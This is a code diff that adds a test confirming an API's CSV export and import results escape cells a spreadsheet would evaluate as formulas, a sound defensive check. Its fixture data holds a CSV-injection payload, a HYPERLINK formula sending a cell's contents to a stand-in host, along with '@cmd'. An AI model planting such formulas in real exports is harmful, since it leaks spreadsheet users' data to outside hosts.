@@ -216,6 +216,30 @@ for (const { kind, skip } of await storeKinds()) {
       assert.equal(listed.body.items.length, 1);
     });
 
+    test('CSV exports escape cells a spreadsheet would run as a formula', async () => {
+      const evil = ['=HYPERLINK("http://x.example/?"&A1)', '+SUM(1)', '-2+3', '@cmd'];
+      const made = await s.api('POST', '/api/v1/accounts/acme/users', { firstName: evil[0], lastName: evil[1], department: evil[2], officeId });
+      assert.equal(made.status, 201, made.text);
+      const exp = await s.api('GET', '/api/v1/accounts/acme/users/export.csv');
+      assert.equal(exp.status, 200, exp.text);
+      const cells = exp.text.split(/[\n,]/).map((c) => c.replace(/^"|"$/g, '').replace(/""/g, '"'));
+      for (const v of evil.slice(0, 3)) {
+        assert.ok(cells.includes(`'${v}`), `${v} escaped in ${exp.text}`);
+        assert.ok(!cells.includes(v), `${v} raw in the export`);
+      }
+      const imp = await raw(s.baseUrl, 'POST', '/api/v1/accounts/acme/imports?wait=true', { authorization: `Bearer ${s.providerKey}`, 'content-type': 'text/csv' }, `first_name,last_name,office\n@cmd,+SUM(1),Sydney\n`);
+      assert.equal(imp.status, 201, imp.text);
+      const result = await s.api('GET', `/api/v1/accounts/acme/imports/${imp.body.id}/result.csv`);
+      assert.equal(result.status, 200, result.text);
+      assert.match(result.text, /,'@cmd,'\+SUM\(1\),/);
+      assert.doesNotMatch(result.text, /,@cmd,/);
+      // what our export escaped reads back as written
+      const users = (await s.api('GET', '/api/v1/accounts/acme/users?limit=500')).body.items as Array<{ firstName: string; lastName: string }>;
+      assert.ok(users.some((u) => u.firstName === '@cmd' && u.lastName === '+SUM(1)'), 'imported names unescaped');
+      const reimport = await raw(s.baseUrl, 'POST', '/api/v1/accounts/acme/imports?dryRun=true&update=true', { authorization: `Bearer ${s.providerKey}`, 'content-type': 'text/csv' }, exp.text);
+      assert.equal(reimport.status, 200, reimport.text);
+    });
+
     test('no request above left an error-level log line', () => {
       assert.deepEqual(errorLines(), []);
       assert.ok(logs.length > 0, 'the log was captured');
